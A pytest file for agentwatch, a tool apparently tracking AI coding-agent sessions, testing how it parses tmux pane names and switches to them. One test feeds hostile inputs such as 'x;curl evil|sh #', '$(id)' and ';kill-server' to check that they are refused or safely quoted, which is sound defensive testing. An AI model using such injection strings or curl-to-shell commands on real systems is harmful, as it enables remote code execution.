"""`t` switches to the pane of tmux in which a session runs."""

import os
import shlex
import shutil
import subprocess
import sys
import threading
from collections.abc import Iterator
from pathlib import Path

import pytest

from agentwatch.base.local_socket import short_folder
from agentwatch.screen.screens.sessions import tmux
from agentwatch.screen.screens.sessions.tmux import go_to_pane, pane_of
from agentwatch.text.safe import cut, safe_line
from tests.builders.home.home_app import row
from tests.builders.machine.app import at_home
from tests.conftest import case

needs_tmux = pytest.mark.skipif(
    shutil.which("tmux") is None or sys.platform != "linux", reason="needs tmux and /proc"
)


def test_a_pane_of_tmux_is_named_or_refused(monkeypatch: pytest.MonkeyPatch) -> None:
    """A text of the registry's form names a pane, which only tmux can show; no other text reaches tmux."""
    # The registry of Claude Code names it so.
    pane = pane_of("main:@0.%12")
    assert pane is not None
    assert (pane.session, pane.pane, pane.words) == ("main", "%12", "main:@0.%12")
    # A text of another form is not given to tmux.
    for words in (
        "",
        "main",
        "main:",
        ":@0.%0",
        "main:0.0",
        "main:@0.%",
        "main:@0.%x",
        "main:@0.%0;kill-server",
        "main:@0.%0 ",
        "main:@0.%-1",
        "main:@0.%²",
        "main:@0.%" + "9" * 100,
        "main:@0",
        "main:@a.%0",
    ):
        with case(ascii(words[:60])):
            assert pane_of(words) is None
    # Without tmux around agentwatch, the words say how to get there.
    pane = pane_of("main:@0.%0")
    assert pane is not None
    words = "session runs in tmux pane main:@0.%0: tmux attach -t main"
    assert go_to_pane(pane, None, {}) == words
    # A foreign name of any length is one word of a shell into which they are copied.
    for name in ("x;curl evil|sh #", "$(id)", "a'b", "\n\x1b[2J", "-x", "x" * 50 + "'"):
        with case(name):
            hostile = pane_of(f"{name}:@0.%0")
            assert hostile is not None
            _, _, command = go_to_pane(hostile, None, {}).rpartition(": ")
            assert shlex.split(command) == ["tmux", "attach", "-t", cut(safe_line(name), 40)]
    # A tmux that is not installed, or does not answer in time, is reported.
    environ = {"TMUX": "/gone,1,0"}
    monkeypatch.setattr("shutil.which", lambda _: None)
    assert go_to_pane(pane, None, environ).endswith("is gone, or tmux does not answer")
    monkeypatch.setattr("shutil.which", lambda _: "/bin/sleep")
    monkeypatch.setattr(tmux, "_SECONDS", 0.05)
    assert go_to_pane(pane, None, environ).endswith("is gone, or tmux does not answer")


class Server:
    """A server of tmux of its own, with a session of two windows."""

    def __init__(self, folder: Path) -> None:
        self._socket = folder / "socket"
        self.run("-f", os.devnull, "new-session", "-d", "-s", "main", "-x", "80", "-y", "24", "sleep 60")
        self.run("new-window", "-d", "-t", "main", "sleep 60")
        self.environ = {"TMUX": f"{self._socket},{self.run('display-message', '-p', '#{pid}')},0"}

    def run(self, *arguments: str) -> str:
        """Run a command of tmux, and return what it prints."""
        argv = ["tmux", "-S", str(self._socket), *arguments]
        environ = {name: value for name, value in os.environ.items() if name != "TMUX"}
        done = subprocess.run(argv, check=True, capture_output=True, text=True, env=environ)
        return done.stdout.strip()

    def panes(self) -> list[tuple[str, int]]:
        """Return each pane in words, and its process."""
        listed = self.run("list-panes", "-s", "-F", "#{session_name}:#{window_id}.#{pane_id} #{pane_pid}")
        return [(words, int(pid)) for words, pid in (line.split() for line in listed.splitlines())]

    def current(self) -> str:
        """Return the pane that the session shows."""
        return self.run("display-message", "-p", "-t", "main", "#{session_name}:#{window_id}.#{pane_id}")


@pytest.fixture
def server() -> Iterator[Server]:
    """Return a server, which is ended afterwards; tmux takes no long path of a socket."""
    folder = Path(short_folder())
    try:
        server = Server(folder)
        yield server
        server.run("kill-server")
    finally:
        shutil.rmtree(folder)


@pytest.mark.slow
@needs_tmux
def test_only_the_pane_of_the_session_is_shown(server: Server, monkeypatch: pytest.MonkeyPatch) -> None:
    """Its window and pane are selected; one of another process, or one that is gone, is not."""
    # A pane with the same id in which another process runs is left alone.
    first, (second, _) = server.current(), server.panes()[1]
    monkeypatch.setenv("TMUX", server.environ["TMUX"])
    pane = pane_of(second)
    assert pane is not None
    assert "does not run in this tmux" in go_to_pane(pane, os.getpid())
    assert server.current() == first
    # A pane that was closed cannot be shown.
    pane = pane_of("main:@0.%99")
    assert pane is not None
    assert "is gone" in go_to_pane(pane, None)
    # The window and the pane of the session are selected; without a client, that is all that can be done.
    pid = server.panes()[1][1]
    pane = pane_of(second)
    assert pane is not None
    assert server.current() != second
    go_to_pane(pane, pid)
    assert server.current() == second


@pytest.mark.system
@pytest.mark.slow
async def test_the_key_names_the_pane(monkeypatch: pytest.MonkeyPatch) -> None:
    """`t` on a session whose pane is known names it; on another, it says that none is known."""
    monkeypatch.delenv("TMUX", raising=False)
    async with at_home([row("one", tmux="main:@0.%0"), row("two")]) as stage:
        await stage.choose("one")
        await stage.press("t")
        await stage.shows("session runs in tmux pane main:@0.%0")
        await stage.choose("two")
        await stage.press("t")
        await stage.shows("no terminal of this session is known")


@pytest.mark.system
@pytest.mark.slow
async def test_the_list_goes_on_while_tmux_is_asked(monkeypatch: pytest.MonkeyPatch) -> None:
    """A tmux that hangs does not hold up the keys."""
    may_answer, was_told = threading.Event(), list[bool]()
    monkeypatch.setenv("TMUX", "/gone,1,0")
    monkeypatch.setattr(tmux, "_tmux", lambda *_: was_told.append(may_answer.wait(20)))
    async with at_home([row("one", tmux="main:@0.%0"), row("two")]) as stage:
        await stage.choose("one")
        await stage.press("t")
        await stage.choose("two")
        may_answer.set()
        await stage.shows("is gone, or tmux does not answer")
    assert was_told == [True]
